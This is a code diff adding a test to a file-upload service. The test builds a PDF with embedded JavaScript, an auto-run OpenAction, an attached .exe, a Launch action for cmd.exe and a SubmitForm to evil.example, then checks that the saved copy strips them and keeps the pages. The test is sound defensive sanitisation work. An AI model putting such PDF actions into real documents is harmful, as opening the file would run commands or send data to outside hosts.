@@ -1,4 +1,4 @@
-import { PDFDocument } from '@cantoo/pdf-lib';
+import { type PDFDict, PDFDocument, PDFName, PDFString } from '@cantoo/pdf-lib';
 import { files } from '@dopusk/contract/files.ts';
 import sharp from 'sharp';
 import { beforeAll, describe, expect, test } from 'vitest';
@@ -68,6 +68,37 @@ describe('saving', () => {
     expect([png.title, webp.title]).toEqual(['scan.png', 'scan.jpg']);
     const stored = await read(client, webp.id);
     expect((await sharp(stored.bytes).metadata()).format).toBe('jpeg');
+  });
+
+  test('takes from a PDF what acts by itself, and keeps its pages', async () => {
+    const document = await PDFDocument.create();
+    document.addPage([300, 200]);
+    document.addJavaScript('main', 'app.alert("run by main")');
+    await document.attach(Buffer.from('MZ program'), 'program.exe', { mimeType: 'application/x-msdownload' });
+    const { context, catalog } = document;
+    catalog.set(PDFName.of('OpenAction'), context.obj({ S: 'JavaScript', JS: PDFString.of('run on opening') }));
+    const annotation = (A: PDFDict) => context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 9, 9], A });
+    document
+      .getPage(0)
+      .node.set(
+        PDFName.of('Annots'),
+        context.obj([
+          annotation(context.obj({ S: 'Launch', F: PDFString.of('cmd.exe') })),
+          annotation(context.obj({ S: 'SubmitForm', F: PDFString.of('https://evil.example') })),
+          annotation(context.obj({ S: 'URI', URI: PDFString.of('https://portal.example') })),
+        ]),
+      );
+    const bytes = Buffer.from(await document.save({ useObjectStreams: false }));
+    const evil = ['JavaScript', 'OpenAction', 'EmbeddedFile', 'Launch', 'SubmitForm', 'cmd.exe', 'evil.example'];
+    for (const word of evil) expect(bytes.includes(word), word).toBe(true);
+
+    const saved = await client.call(files.save, upload(bytes, 'Скан.pdf'));
+    const { bytes: stored } = await read(client, saved.id);
+    const kept = await PDFDocument.load(stored);
+    expect(kept.getPages().map((page) => page.getSize())).toEqual([{ width: 300, height: 200 }]);
+    const plain = Buffer.from(await kept.save({ useObjectStreams: false }));
+    for (const word of evil) expect(plain.includes(word), word).toBe(false);
+    expect(plain.includes('https://portal.example')).toBe(true);
   });
 
   test('keeps a PDF byte for byte, as a download', async () => {
